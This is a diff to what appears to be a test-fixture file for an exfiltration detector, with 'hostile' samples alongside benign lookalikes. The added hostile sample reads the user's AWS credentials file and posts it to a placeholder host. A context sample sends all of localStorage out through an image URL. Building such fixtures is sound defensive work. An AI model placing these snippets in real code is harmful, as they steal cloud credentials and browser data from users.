@@ -91,6 +91,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "all that a page keeps": js(
             "const all = JSON.stringify({ ...localStorage });\nnew Image().src = 'https://a.invalid/?' + btoa(all);\n",
         ),
+        "a parser of settings that has read keys": py(
+            "import configparser, requests\nfrom pathlib import Path\nparser = configparser.ConfigParser()\n"
+            "parser.read(Path.home() / '.aws' / 'credentials')\n"
+            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n",
+            line=5,
+        ),
         "a queue, by a client that is awaited twice": js(
             "const queues = require('amqplib');\nasync function start() {\n"
             "  const one = await (await queues.connect('amqp://a.invalid')).createChannel();\n"
@@ -160,6 +166,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "one thing that a page keeps": {
             "app.js": "const theme = localStorage.getItem('theme');\n"
             "new Image().src = 'https://a.invalid/?' + encodeURIComponent(theme);\n"
+        },
+        "a parser of settings that has read the project's": {
+            "app.py": "import configparser, requests\nparser = configparser.ConfigParser()\nparser.read('setup.cfg')\n"
+            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n"
         },
         "a setting in a line that is logged to another machine": {
             "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
